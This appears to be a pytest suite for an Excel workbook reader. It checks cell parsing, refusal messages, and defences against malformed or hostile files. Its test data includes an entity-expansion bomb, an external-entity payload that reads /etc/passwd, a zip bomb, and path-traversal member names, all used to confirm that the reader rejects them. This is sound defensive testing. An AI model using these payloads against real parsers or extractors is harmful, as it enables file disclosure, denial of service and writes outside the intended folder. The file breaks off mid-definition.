"""Hostile and ordinary workbooks, built part by part, and what is made of them."""

import contextlib
import csv
import datetime as dt
import io
import math
import os
import pickle
import random
import re
import struct
import time
import unicodedata
import warnings
import zipfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.utils import get_column_letter

from site_select import messages, workbooks
from site_select.errors import SiteSelectError, WriteError
from site_select.workbooks import Cell, Limits, Refused

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
BOMB = (
    '<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'


def relations(**targets):
    rows = "".join(
        f'<Relationship Id="{name}" Type="{OFFICE}/{kind}" Target="{target}"/>'
        for name, (kind, target) in targets.items()
    )
    return f'<Relationships xmlns="{PACKAGE}">{rows}</Relationships>'


def sheet_part(data, after=""):
    return f'<worksheet xmlns="{MAIN}"><sheetData>{data}</sheetData>{after}</worksheet>'


def parts(data="", *, after="", strings=(), formats=(), codes="", setting="", states=("visible",)):
    """Parts of a workbook whose sheets S1, S2, ... hold the same data."""
    sheets = "".join(
        f'<sheet name="S{n}" sheetId="{n}" state="{state}" r:id="s{n}"/>'
        for n, state in enumerate(states, start=1)
    )
    links = {f"s{n}": ("worksheet", f"worksheets/sheet{n}.xml") for n in range(1, len(states) + 1)}
    texts = "".join(f"<si>{text}</si>" for text in strings)
    styles = "".join(f'<xf numFmtId="{number}"/>' for number in formats)
    return {
        "_rels/.rels": relations(main=("officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}">{setting}'
        f"<sheets>{sheets}</sheets></workbook>",
        "xl/_rels/workbook.xml.rels": relations(
            **links,
            texts=("sharedStrings", "sharedStrings.xml"),
            styles=("styles", "/xl/styles.xml"),
        ),
        "xl/sharedStrings.xml": f'<sst xmlns="{MAIN}">{texts}</sst>',
        "xl/styles.xml": f'<styleSheet xmlns="{MAIN}"><numFmts>{codes}</numFmts>'
        f'<cellStyleXfs><xf numFmtId="14"/></cellStyleXfs><cellXfs>{styles}</cellXfs></styleSheet>',
        **{f"xl/{target}": sheet_part(data, after) for _, target in links.values()},
    }


def packed(members, method=zipfile.ZIP_DEFLATED):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # of a name that is there twice
        for name, content in members.items() if isinstance(members, dict) else members:
            archive.writestr(name, content)
    return file.getvalue()


@pytest.fixture
def file(tmp_path):
    return tmp_path / "returned.xlsx"


@pytest.fixture
def read(file):
    """Read a workbook of one sheet, or of parts or bytes that are given."""

    def opened(data="", *, limits=Limits(), only=None, **made):  # noqa: B008 - never changes
        given_parts = parts(data, **made) if isinstance(data, str) else data
        file.write_bytes(given_parts if isinstance(given_parts, bytes) else packed(given_parts))
        return workbooks.opened(file, limits=limits, only=only)

    return opened


@pytest.fixture
def cell(read):
    """Read the one cell that stands in the sheet."""

    def found(written, **made):
        (only,) = read(f'<row r="1">{written}</row>', **made)["S1"].cells.values()
        return only

    return found


def refusal(key, **values):
    return messages.text(f"workbooks.{key}.found", **values)


def test_refusal_speaks_both_languages_and_one_line_of_english(read):
    with pytest.raises(Refused) as caught:
        read(b"")
    assert (caught.value.found.ko, caught.value.found.en) == (
        "빈 파일(0바이트)",
        "an empty file (0 bytes)",
    )
    assert str(caught.value) == (
        "found an empty file (0 bytes); allowed: an Excel workbook (.xlsx); "
        "to mend: send or save the file again"
    )
    assert isinstance(caught.value, SiteSelectError)


# cells


@pytest.mark.parametrize("text", ["007", "1e5", "1,234", "-5", "=1+1", "TRUE", "2026-03-01"])
def test_text_stays_the_text_that_was_typed(cell, text):
    assert cell('<c r="A1" t="s"><v>0</v></c>', strings=[f"<t>{text}</t>"]) == Cell(text, "text")
    assert cell(f'<c r="A1" t="inlineStr"><is><t>{text}</t></is></c>') == Cell(text, "text")
    assert cell(f'<c r="A1" t="str"><v>{text}</v></c>') == Cell(text, "text")


@pytest.mark.parametrize(
    ("written", "text"),
    [
        ("7", "7"), ("7.0", "7"), ("007", "7"), ("-0", "0"), ("-0.0", "0"), ("0.1", "0.1"),
        ("0.10000000000000001", "0.1"), ("0.30000000000000004", "0.30000000000000004"),
        ("-5", "-5"), ("1E5", "100000"), ("1.5E-7", "1.5e-07"), ("1e20", "1e+20"),
        ("9007199254740993", "9007199254740993"), (".5", "0.5"), ("12.", "12"), (" 3 ", "3"),
    ],
)  # fmt: skip
def test_number_is_written_shortest(cell, written, text):
    assert cell(f'<c r="A1"><v>{written}</v></c>') == Cell(text, "number")


@pytest.mark.parametrize("written", ["NaN", "inf", "1e999", "1_000", "1,000", "٣", "0x10", "seven"])
def test_number_that_is_none_is_refused(cell, written):
    with pytest.raises(Refused, match="damaged workbook"):
        cell(f'<c r="A1"><v>{written}</v></c>')


@pytest.mark.parametrize(
    ("serial", "date"),
    [
        ("1", "1900-01-01"), ("59", "1900-02-28"), ("61", "1900-03-01"), ("3687", "1910-02-03"),
        ("38749", "2006-02-01"), ("2958465", "9999-12-31"),
    ],
)  # fmt: skip
def test_serial_number_is_the_date_of_ecma_376_1900_base(cell, serial, date):
    """ECMA-376, Date Representation: DATEVALUE of the 1900 date base, leap year 1900 included."""
    found = cell(f'<c r="A1" s="0"><v>{serial}</v></c>', formats=[14])
    assert found == Cell(date, "date")


@pytest.mark.parametrize(("serial", "date"), [("2225", "1910-02-03"), ("2957003", "9999-12-31")])
def test_serial_number_is_the_date_of_ecma_376_1904_base(cell, serial, date):
    """ECMA-376, Date Representation: the 1904 base begins 1,462 days later."""
    setting = '<workbookPr date1904="1"/>'
    found = cell(f'<c r="A1" s="0"><v>{serial}</v></c>', formats=[14], setting=setting)
    assert found == Cell(date, "date")


@pytest.mark.parametrize("base", ["0", "1"])
def test_serial_number_beyond_the_calendar_stays_a_number(cell, base):
    written, setting = '<c r="A1" s="0"><v>2958466</v></c>', f'<workbookPr date1904="{base}"/>'
    assert cell(written, formats=[14], setting=setting) == Cell("2958466", "number")
    below = cell('<c r="A1" s="0"><v>-1</v></c>', formats=[14], setting=setting)
    assert below == Cell("-1", "number")


@pytest.mark.parametrize(
    ("number", "code", "found"),
    [
        (31, "", Cell("2006-02-01T12:00:00", "date")),  # Korean Excel writes no code for it
        (57, "", Cell("2006-02-01T12:00:00", "date")),
        (176, "yyyy&quot;년&quot; m&quot;월&quot;", Cell("2006-02-01T12:00:00", "date")),
        (176, "0.0&quot;days&quot;", Cell("38749.5", "number")),
        (176, "[Red]#,##0", Cell("38749.5", "number")),
        (176, "[h]:mm", Cell("38749.5", "number")),  # a duration
        (31, "0.00", Cell("38749.5", "number")),  # the file says otherwise
        (0, "", Cell("38749.5", "number")),
        (46, "", Cell("38749.5", "number")),
    ],
)
def test_number_format_tells_a_date_from_a_number(cell, number, code, found):
    codes = f'<numFmt numFmtId="{number}" formatCode="{code}"/>' if code else ""
    written = '<c r="A1" s="1"><v>38749.5</v></c>'
    assert cell(written, formats=[0, number], codes=codes) == found


def test_format_of_a_style_that_is_no_style_of_cells_counts_for_nothing(cell):
    """`cellStyleXfs` of every workbook here begins with a date; a missing style is no date."""
    assert cell('<c r="A1" s="0"><v>5</v></c>', formats=[0]).kind == "number"
    assert cell('<c r="A1" s="9"><v>5</v></c>', formats=[0]).kind == "number"


def test_time_of_day_and_iso_date(cell):
    assert cell('<c r="A1" s="0"><v>0.4375</v></c>', formats=[20]) == Cell("10:30:00", "date")
    assert cell('<c r="A1" t="d"><v>2026-03-01</v></c>') == Cell("2026-03-01", "date")
    assert cell('<c r="A1" t="d"><v>2026-03-01T10:30:00</v></c>').text == "2026-03-01T10:30:00"


def test_truths_and_errors_are_kinds_of_their_own(cell):
    assert cell('<c r="A1" t="b"><v>1</v></c>') == Cell("TRUE", "truth")
    assert cell('<c r="A1" t="b"><v>0</v></c>') == Cell("FALSE", "truth")
    assert cell('<c r="A1" t="e"><v>#DIV/0!</v></c>') == Cell("#DIV/0!", "error")


@pytest.mark.parametrize(
    "written",
    ["<f>1+1</f>", "<f>1+1</f><v>2</v>", '<f t="array" ref="A1">1+1</f><v>2</v>'],
)
@pytest.mark.parametrize("kind", ["n", "str", "b", "e"])
def test_formula_is_told_with_and_without_a_cached_value(cell, written, kind):
    value = {"b": "1", "e": "#N/A"}.get(kind, "2")
    found = cell(f'<c r="A1" t="{kind}">{written.replace("<v>2", f"<v>{value}")}</c>')
    assert found == Cell("=1+1", "formula")


def test_shared_formula_is_a_formula_in_every_cell(read):
    cells = read(
        '<row r="1"><c r="A1"><f t="shared" ref="A1:A3" si="0">B1*2</f><v>2</v></c></row>'
        '<row r="2"><c r="A2"><f t="shared" si="0"/><v>4</v></c></row>'
        '<row r="3"><c r="A3"><v>6</v></c></row>'  # typed over the formula
    )["S1"].cells
    assert cells == {
        (1, 1): Cell("=B1*2", "formula"), (2, 1): Cell("=B1*2", "formula"),
        (3, 1): Cell("6", "number"),
    }  # fmt: skip


def test_formula_without_words_takes_none_of_another(read):
    cells = read("<row><c><f>A9</f></c><c><f/><v>1</v></c></row>")["S1"].cells
    assert cells == {(1, 1): Cell("=A9", "formula"), (1, 2): Cell("=", "formula")}


@pytest.mark.parametrize("kind", ["array", "dataTable"])
def test_cells_that_an_array_formula_fills_are_formulas(read, kind):
    cells = read(
        f'<row r="1"><c r="A1"><f t="{kind}" ref="A1:B2">B1:B9</f><v>2</v></c>'
        '<c r="B1"><v>4</v></c><c r="C1"><v>8</v></c></row>'
    )["S1"].cells
    assert [cell.kind for cell in cells.values()] == ["formula", "formula", "number"]
    assert cells[1, 2].text == "=B1:B9"


def test_decomposed_text_and_title_are_composed_and_stripped(read):
    members = parts('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', strings=["<t> 광주\n</t>"])
    decomposed = {
        name: unicodedata.normalize("NFD", text.replace('"S1"', '"단지"'))
        for name, text in members.items()
    }
    assert read(decomposed)["단지"].cells == {(1, 1): Cell("광주", "text")}


def test_runs_are_joined_and_pronunciation_is_left_out(cell):
    runs = "<r><t>표면</t></r><r><t xml:space='preserve'> 처리</t></r><rPh><t>ヒョウ</t></rPh>"
    found = cell('<c r="A1" t="s"><v>0</v></c>', strings=[runs])
    assert found == Cell("표면 처리", "text")
    assert cell(f'<c r="A1" t="inlineStr"><is>{runs}</is></c>') == Cell("표면 처리", "text")


@pytest.mark.parametrize(
    ("written", "text"),
    [
        ("a_x000A_b", "a\nb"), ("_x005F_x000A_", "_x000A_"), ("a_x0000_b", "a\ufffdb"),
        ("a_xD83D_b", "a\ufffdb"), ("_x00_", "_x00_"),
    ],
)  # fmt: skip
def test_escaped_characters_are_read_and_forbidden_ones_replaced(cell, written, text):
    assert cell(f'<c r="A1" t="str"><v>{written}</v></c>') == Cell(text, "text")


@pytest.mark.parametrize("empty", ["", "<v></v>", "<is><t>  </t></is>", "<v/>"])
def test_empty_cells_are_left_out(read, empty):
    for kind in ("n", "s", "str", "inlineStr"):
        if "t" not in empty or kind == "inlineStr":
            assert read(f'<row><c r="A1" t="{kind}">{empty}</c></row>')["S1"].cells == {}


def test_cells_without_reference_follow_one_another(read):
    data = "<row><c><v>1</v></c><c><v>2</v></c></row><row/><row><c><v>3</v></c></row>"
    assert list(read(data)["S1"].cells) == [(1, 1), (1, 2), (3, 1)]


def test_prefixed_names_of_the_open_xml_kit_are_read(read):
    members = parts('<row r="1"><c r="B1"><v>5</v></c></row>')
    sheet = members["xl/worksheets/sheet1.xml"].replace("<", "<x:").replace("<x:/", "</x:")
    members["xl/worksheets/sheet1.xml"] = sheet.replace("xmlns=", "xmlns:x=")
    assert read(members)["S1"].cells == {(1, 2): Cell("5", "number")}


def test_merged_areas_are_named_and_hold_their_first_cell_only(read):
    after = '<mergeCells count="2"><mergeCell ref="A1:C1"/><mergeCell ref="A3:A4"/></mergeCells>'
    sheet = read('<row r="1"><c r="A1"><v>1</v></c><c r="B1" s="0"/></row>', after=after)["S1"]
    assert sheet.merged == ("A1:C1", "A3:A4")
    assert list(sheet.cells) == [(1, 1)]


def test_hidden_sheets_are_told_and_sheets_not_asked_for_come_without_cells(read):
    data, states = '<row r="1"><c r="A1"><v>1</v></c></row>', ("visible", "hidden", "veryHidden")
    sheets = read(data, states=states)
    assert [sheet.is_hidden for sheet in sheets.values()] == [False, True, True]
    assert [len(sheet.cells) for sheet in sheets.values()] == [1, 1, 1]
    some = read(data, states=states, only={"S2", "S9"})
    assert [(title, len(sheet.cells), sheet.is_hidden) for title, sheet in some.items()] == [
        ("S1", 0, False), ("S2", 1, True), ("S3", 0, True),
    ]  # fmt: skip


def test_chart_that_is_a_sheet_is_left_out(read):
    members = parts(states=("visible", "visible"))
    name = "xl/_rels/workbook.xml.rels"
    members[name] = members[name].replace("worksheet", "chartsheet", 1)
    assert list(read(members)) == ["S2"]


def test_a_thousand_cells_are_read_as_openpyxl_reads_them(file):
    """Against another program: every kind openpyxl writes, at random places."""
    generator, book, expected = random.Random(5), openpyxl.Workbook(), {}  # noqa: S311
    day = dt.datetime(2026, 1, 1, 6, 30)  # noqa: DTZ001 - a workbook knows no time zone
    for row in range(1, 101):
        for column in generator.sample(range(1, 60), 10):
            value = generator.choice(
                [row, row / 7, -row * 1e9, f"주조 {row}", row % 2 == 0, f"=A{row}", "#N/A",
                 day + dt.timedelta(days=row), dt.date(2026, 3, 1),
                 dt.time(10, 30)]
            )  # fmt: skip
            book.active.cell(row, column, value)
            expected[row, column] = value
    book.save(file)
    cells = workbooks.opened(file)["Sheet"].cells
    for row in openpyxl.load_workbook(file).active.iter_rows():
        for found in (each for each in row if each.value is not None):
            value, (text, kind) = found.value, cells.pop((found.row, found.column))
            if kind == "number":
                assert float(text) == value
                assert value == pytest.approx(expected[found.row, found.column], rel=1e-15)
            elif kind == "date" and isinstance(value, dt.datetime):
                assert dt.datetime.fromisoformat(text) == value
            else:
                assert text == (str(value).upper() if kind == "truth" else str(value))
    assert cells == {}


# files


def test_password_protected_file_is_named_as_such(read):
    with pytest.raises(Refused) as caught:
        read(bytes.fromhex("D0CF11E0A1B11AE1") + bytes(4096))
    assert caught.value.found == refusal("locked")


@pytest.mark.parametrize("raw", [b"branch,name_ko\n", b"<html/>", b"%PDF-1.7", b"P"])
def test_file_of_another_kind_is_no_workbook(read, raw):
    with pytest.raises(Refused) as caught:
        read(raw)
    assert caught.value.found == refusal("foreign")


def test_zip_of_another_kind_is_no_workbook(read):
    document = {"word/document.xml": "<document/>"}
    main = {"_rels/.rels": relations(main=("officeDocument", "word/document.xml"))}
    for members in (document, document | main, document | {"_rels/.rels": relations()}):
        with pytest.raises(Refused) as caught:
            read(members)
        assert caught.value.found == refusal("foreign")


def test_link_folder_and_pipe_are_refused_unread(tmp_path, file):
    (tmp_path / "real.xlsx").write_bytes(packed(parts()))
    file.symlink_to(tmp_path / "real.xlsx")
    os.mkfifo(tmp_path / "pipe.xlsx")  # to open it would wait for ever
    for path in (file, tmp_path, tmp_path / "pipe.xlsx"):
        with pytest.raises(Refused) as caught:
            workbooks.opened(path)
        assert caught.value.found == refusal("link")


@pytest.mark.parametrize("name", ["absent.xlsx", "a\0b.xlsx", "x" * 300])
def test_file_that_is_not_there_is_a_refusal(tmp_path, name):
    with pytest.raises(Refused, match="a file that cannot be read"):
        workbooks.opened(tmp_path / name)


# sizes


@pytest.fixture
def sealed(monkeypatch):
    """Fail if anything is unpacked."""

    def unpacked(*_, **__):
        raise AssertionError("something was unpacked")

    monkeypatch.setattr(zipfile.ZipExtFile, "read", unpacked)


def declared(raw, size):
    """Say in the directory that the last member has another size when unpacked."""
    place = raw.rindex(b"PK\1\2") + 24
    return raw[:place] + struct.pack("<I", size) + raw[place + 4 :]


@pytest.mark.usefixtures("sealed")
def test_zip_bomb_is_refused_before_anything_is_unpacked(file):
    bomb = packed(parts() | {"xl/media/zeros": bytes(50_000_000)})
    file.write_bytes(bomb)
    with pytest.raises(Refused, match=r"a workbook packed 9\d\d times smaller"):
        workbooks.opened(file)


@pytest.mark.usefixtures("sealed")
def test_declared_size_is_refused_before_anything_is_unpacked(file):
    file.write_bytes(declared(packed(parts()), 4_000_000_000))
    with pytest.raises(Refused) as caught:
        workbooks.opened(file)
    assert "a workbook of 4,000,00" in caught.value.found.en


@pytest.mark.usefixtures("sealed")
def test_number_of_members_is_refused_before_anything_is_unpacked(file):
    file.write_bytes(packed(parts() | {f"xl/media/{n}": b"" for n in range(2000)}))
    with pytest.raises(Refused) as caught:
        workbooks.opened(file)
    assert caught.value.found == refusal("entries", found=2006)


@pytest.mark.usefixtures("sealed")
def test_size_of_the_file_is_refused_before_anything_is_unpacked(file):
    with file.open("wb") as sparse:
        sparse.write(packed(parts()))
        sparse.truncate(3_000_000_000)
    with pytest.raises(Refused) as caught:
        workbooks.opened(file)
    assert caught.value.found == refusal("file_bytes", found=3_000_000_000)


def test_member_larger_than_declared_is_cut_off(read, monkeypatch):
    lengths = []
    take = zipfile.ZipExtFile.read

    def counted(self, size=-1):
        content = take(self, size)
        lengths.append(len(content))
        return content

    monkeypatch.setattr(zipfile.ZipExtFile, "read", counted)
    members = parts()
    members["xl/worksheets/sheet1.xml"] += " " * 30_000_000
    with pytest.raises(Refused, match="damaged workbook"):
        read(declared(packed(members), 1000), limits=Limits(ratio=math.inf))
    assert sum(lengths) < 10_000


def test_part_that_many_sheets_name_is_unpacked_no_oftener_than_the_limit(read):
    members = parts(after=" " * 1_000_000, states=("visible",) * 30)
    for n in range(2, 31):
        del members[f"xl/worksheets/sheet{n}.xml"]
    links = members["xl/_rels/workbook.xml.rels"]
    for n in range(2, 31):
        links = links.replace(f"sheet{n}.xml", "sheet1.xml")
    members["xl/_rels/workbook.xml.rels"] = links
    limits = Limits(unpacked_bytes=5_000_000, ratio=math.inf)
    with pytest.raises(Refused, match="bytes when unpacked"):
        read(members, limits=limits)


@pytest.mark.parametrize(
    ("data", "made"),
    [
        ("<row>" + "<c><v>1</v></c>" * 101 + "</row>", {}),
        ("<row>" + "<c><v>1</v></c>" * 51 + "</row>", {"states": ("visible", "visible")}),
        ("", {"after": '<mergeCell ref="A1:B1"/>' * 101}),
        ("<row><c><v>1</v></c></row>", {"strings": ["<t/>"] * 101}),
        ("<row><c><v>1</v></c></row>", {"formats": [0] * 101}),
        ("<row><c><v>1</v></c></row>",
         {"codes": "".join(f'<numFmt numFmtId="{n}" formatCode="0"/>' for n in range(101))}),
        ("", {"states": ("visible",) * 101}),
        ("<row>" + "".join(f'<c><f t="array" ref="A{n}:B{n}"/></c>' for n in range(1, 102))
         + "</row>", {}),
    ],
    ids=["cells", "sheets together", "merged", "texts", "styles", "codes", "sheets", "arrays"],
)  # fmt: skip
def test_more_than_the_limit_of_cells_is_refused(read, data, made):
    with pytest.raises(Refused) as caught:
        read(data, limits=Limits(cells=100), **made)
    assert caught.value.found == refusal("cells", most=100)
    assert read(data, limits=Limits(cells=1000), **made)


def test_more_links_than_the_limit_are_refused(read):
    links = relations(**{f"r{n}": ("image", f"{n}.png") for n in range(101)})
    with pytest.raises(Refused, match="more than 100 cells"):
        read(parts() | {"_rels/.rels": links}, limits=Limits(cells=100))


def test_sheets_that_share_a_part_are_counted(read):
    members = parts()
    (sheet,) = re.findall("<sheet .*?/>", members["xl/workbook.xml"])
    sheets = "".join(sheet.replace("S1", f"S{n}") for n in range(1, 102))
    with pytest.raises(Refused, match="more than 100 cells"):
        read(members | {"xl/workbook.xml": members["xl/workbook.xml"].replace(sheet, sheets)},
             limits=Limits(cells=100))  # fmt: skip


@pytest.mark.parametrize("states", [("visible",), ("visible", "visible")])
def test_reading_stops_at_the_limit_of_cells(read, states):
    """What comes after, here no XML at all, is not looked at any more."""
    members = parts("<row>" + "<c><v>1</v></c>" * 60 + "</row>", states=states)
    endless = "<row>" + "<c><v>1</v></c>" * (120 if len(states) == 1 else 60) + "<c/>" * 40_000
    members[f"xl/worksheets/sheet{len(states)}.xml"] = sheet_part(endless + "<<<")
    with pytest.raises(Refused, match="more than 100 cells"):
        read(members, limits=Limits(cells=100))


def test_limit_of_cells_may_be_reached(read):
    data = "<row>" + "<c><v>1</v></c>" * 50 + "<c/>" * 100 + "</row>"
    sheets = read(data, limits=Limits(cells=100), states=("visible", "visible"))
    assert [len(sheet.cells) for sheet in sheets.values()] == [50, 50]


def test_time_is_limited(read):
    with pytest.raises(Refused) as caught:
        read(parts(), limits=Limits(seconds=-1))
    assert caught.value.found == refusal("seconds", most=-1)


def test_time_is_looked_at_while_reading(read, monkeypatch):
    clock = iter(range(10_000))
    monkeypatch.setattr(time, "monotonic", lambda: next(clock))
    data = "<row>" + "<c><v>1</v></c>" * 15_000 + "</row>"
    assert read(data, limits=Limits(seconds=100))
    with pytest.raises(Refused, match="more than 12 seconds"):
        read(data, limits=Limits(seconds=12))


def test_time_is_looked_at_between_array_formulas(read, monkeypatch):
    data = "".join(
        f'<row r="{n}"><c r="A{n}"><f t="array" ref="A{n}:B{n}">1</f></c></row>'
        for n in range(1, 101)
    )
    clock = iter(range(10_000))
    monkeypatch.setattr(time, "monotonic", lambda: next(clock))
    with pytest.raises(Refused, match="more than 60 seconds"):
        read(data)


def test_declared_dimension_and_far_rows_cost_nothing(read):
    data = (
        '<row r="1"><c r="A1"><v>1</v></c></row><row r="900000"/>'
        '<row r="1048576" spans="1:16384"><c r="XFD1048576"><v>2</v></c></row>'
    )
    members = parts(data)
    name = "xl/worksheets/sheet1.xml"
    dimension = '<dimension ref="A1:XFD1048576"/><sheetData>'
    members[name] = members[name].replace("<sheetData>", dimension)
    begun = time.process_time()
    assert list(read(members)["S1"].cells) == [(1, 1), (1_048_576, 16_384)]
    assert time.process_time() - begun < 1


@pytest.mark.parametrize("reference", ["A1048577", "XFE1", "A0", "A", "1", "A1_0", "a1b", "ZZZZ1"])
def test_place_beyond_a_sheet_is_refused(read, reference):
    with pytest.raises(Refused, match="damaged workbook"):
        read(f'<row r="1"><c r="{reference}"><v>1</v></c></row>')


def test_row_beyond_a_sheet_is_refused(read):
    with pytest.raises(Refused, match="damaged workbook"):
        read('<row r="99999999999999999999"><c><v>1</v></c></row>')


def test_text_longer_than_a_cell_can_be_is_refused(read):
    data = '<row><c t="s"><v>0</v></c></row>'
    assert read(data, strings=[f"<t>{'a' * 32_767}</t>"])["S1"].cells[1, 1].text == "a" * 32_767
    with pytest.raises(Refused, match="damaged workbook"):
        read(data, strings=[f"<t>{'a' * 32_768}</t>"])


def test_tag_that_would_fill_the_memory_is_refused(read):
    attributes = " ".join(f"a{n}=''" for n in range(200_000))
    with pytest.raises(Refused, match=r"damaged workbook \(xl/worksheets/sheet1.xml\)"):
        read(parts(f"<row {attributes}/>"))


def test_elements_within_one_another_without_end_are_refused(read):
    deep = sheet_part("", "<b>" * 40_000 + "</b>" * 40_000)
    with pytest.raises(Refused, match=r"damaged workbook \(xl/worksheets/sheet1.xml\)"):
        read(parts() | {"xl/worksheets/sheet1.xml": deep}, limits=Limits(ratio=math.inf))
    nested = sheet_part("", "<b>" * 90 + "</b>" * 90)
    assert read(parts() | {"xl/worksheets/sheet1.xml": nested})["S1"].cells == {}


def test_number_format_of_endless_brackets_is_read_at_once(read):
    code = "[" * 200_000
    begun = time.process_time()
    assert read("<row><c><v>1</v></c></row>", codes=f'<numFmt numFmtId="170" formatCode="{code}"/>')
    assert time.process_time() - begun < 2


# XML and zip


@pytest.mark.parametrize("part", list(parts()))
@pytest.mark.parametrize("doctype", [BOMB, OUTSIDE, "<!DOCTYPE x>"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_document_type_is_refused_in_every_part(read, part, doctype, encoding):
    members = parts("<row><c><v>1</v></c></row>")
    text = f"<?xml version='1.0' encoding='{encoding}'?>{doctype}{members[part]}"
    with pytest.raises(Refused) as caught:
        read(members | {part: text.replace("</", "&c;</", 1).encode(encoding)})
    assert caught.value.found == refusal("doctype", part=part)


def test_workbook_in_utf_16_is_read(read):
    members = {
        name: f"<?xml version='1.0' encoding='utf-16'?>{text}".encode("utf-16")
        for name, text in parts('<row><c t="str"><v>광주</v></c></row>').items()
    }
    assert read(members)["S1"].cells == {(1, 1): Cell("광주", "text")}


@pytest.mark.parametrize(
    "name", ["../../etc/cron.d/x", "/etc/passwd", "C:/x", "xl/../../x", "..\\x"]
)
def test_member_that_leaves_its_folder_is_refused(read, name):
    with pytest.raises(Refused) as caught:
        read(parts() | {name: "x"})
    assert caught.value.found == refusal("member", name=repr(name))


@pytest.mark.parametrize("name", ["xl/workbook.xml", "XL/Workbook.xml"])
def test_member_that_is_there_twice_is_refused(read, name):
    with pytest.raises(Refused, match="which no workbook has"):
        read(packed([*parts().items(), (name, "<x/>")]))


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_member_packed_in_another_way_is_refused(read, method):
    with pytest.raises(Refused, match="which no workbook has"):
        read(packed(parts(), method))


def test_member_with_a_password_is_refused(read):
    raw = bytearray(packed(parts()))
    raw[raw.index(b"PK\1\2") + 8] |= 1
    with pytest.raises(Refused, match="which no workbook has"):
        read(bytes(raw))


@pytest.mark.parametrize("index", ["1", "-1", "x", "1.0", "99999999999999999999"])
def test_shared_text_out_of_range_is_refused(read, index):
    with pytest.raises(Refused, match="damaged workbook"):
        read(f'<row><c t="s"><v>{index}</v></c></row>', strings=["<t>a</t>"])


@pytest.mark.parametrize("part", list(parts()))
def test_missing_cut_and_garbled_parts_are_refused(read, part):
    members = parts("<row><c t='s'><v>0</v></c></row>", strings=["<t>a</t>"])
    absent = {name: text for name, text in members.items() if name != part}
    cut, garbled = members[part][:-5], members[part].replace("<", "<<", 1)
    nothing, unknown = "", f"<?xml version='1.0' encoding='utf-7'?>{members[part]}"
    for made in (absent, *(members | {part: text} for text in (cut, garbled, nothing, unknown))):
        with pytest.raises(Refused):
            read(made)


@pytest.mark.parametrize(
    ("part", "old", "new"),
    [
        ("xl/workbook.xml", 'r:id="s1"', 'r:id="s9"'),
        ("xl/workbook.xml", 'r:id="s1"', ""),
        ("xl/workbook.xml", 'name="S1"', ""),
        ("xl/_rels/workbook.xml.rels", "worksheets/", "../../worksheets/"),
        ("xl/_rels/workbook.xml.rels", "worksheets/sheet1.xml", "http://example.org/sheet.xml"),
        ("xl/_rels/workbook.xml.rels", "Target", "Goal"),
        ("xl/worksheets/sheet1.xml", "<c>", '<c t="z">'),
        ("xl/worksheets/sheet1.xml", "<c>", '<c t="b">'),
        ("xl/worksheets/sheet1.xml", "<c>", '<c r="A1"><v>1</v></c><c r="A1">'),
        ("xl/worksheets/sheet1.xml", "</sheetData>", '</sheetData><mergeCell ref="A1:B"/>'),
        ("xl/worksheets/sheet1.xml", "</sheetData>", "</sheetData><mergeCell/>"),
        ("xl/worksheets/sheet1.xml", "<v>", '<f t="array"/><v>'),
    ],
)  # fmt: skip
def test_contradictions_are_refused(read, part, old, new):
    members = parts("<row><c><v>7</v></c></row>")
    assert old in members[part]
    with pytest.raises(Refused, match="damaged workbook"):
        read(members | {part: members[part].replace(old, new, 1)})


def test_title_that_is_there_twice_is_refused(read):
    members = parts(states=("visible", "visible"))
    text = members["xl/workbook.xml"].replace('name="S2"', 'name="S1"')
    with pytest.raises(Refused, match="damaged workbook"):
        read(members | {"xl/workbook.xml": text})


def test_packed_bytes_that_are_spoilt_are_refused(read):
    raw = packed({"_rels/.rels": parts()["_rels/.rels"]})
    begin = 30 + len("_rels/.rels")
    for place in range(begin, raw.index(b"PK\1\2")):
        with pytest.raises(Refused, match="damaged workbook"):
            read(changed(raw, [(place, raw[place] ^ 0xFF)]))


def test_zip_of_a_later_version_is_refused(read):
    raw = packed(parts())
    with pytest.raises(Refused, match="damaged workbook"):
        read(changed(raw, [(raw.index(b"PK\1\2") + 6, 255)]))


def test_compressed_size_that_is_too_short_is_refused(read):
    raw = packed(parts())
    with pytest.raises(Refused, match="damaged workbook"):
        read(changed(raw, [(raw.index(b"PK\1\2") + 20, 5), (raw.index(b"PK\1\2") + 21, 0)]))


def test_last_moment_of_the_calendar_that_rounds_beyond_it_is_refused(cell):
    with pytest.raises(Refused, match="damaged workbook"):
        cell('<c r="A1" s="0"><v>2958465.9999999995</v></c>', formats=[14])


def test_target_is_found_from_the_folder_of_its_part(read):
    members = parts("<row><c><v>7</v></c></row>")
    name = "xl/_rels/workbook.xml.rels"
    links = members[name].replace('"worksheets/', '"../xl/./worksheets/')
    assert read(members | {name: links})["S1"].cells == {(1, 1): Cell("7", "number")}


def test_truncated_file_is_refused_wherever_it_ends(read):
    raw = packed(parts("<row><c><v>1</v></c></row>"))
    for end in range(0, len(raw), 7):
        with pytest.raises(Refused):
            read(raw[:end])


SMALL = parts(
    '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" s="1"><v>38749.5</v></c>'
    '<c r="C1"><f t="array" ref="C1:D1">A1</f><v>1</v></c><c r="E1" t="b"><v>1</v></c>'
    '<c t="inlineStr"><is><t>a</t></is></c></row>',
    after='<mergeCells><mergeCell ref="A2:B3"/></mergeCells>', strings=["<t>광주</t>"],
    formats=[0, 14, 176], codes='<numFmt numFmtId="176" formatCode="yyyy"/>',
)  # fmt: skip
CHANGES = st.lists(
    st.tuples(
        st.integers(0, 1 << 16), st.one_of(st.integers(0, 255), st.sampled_from(b"<>/\"'0-9&!"))
    ),
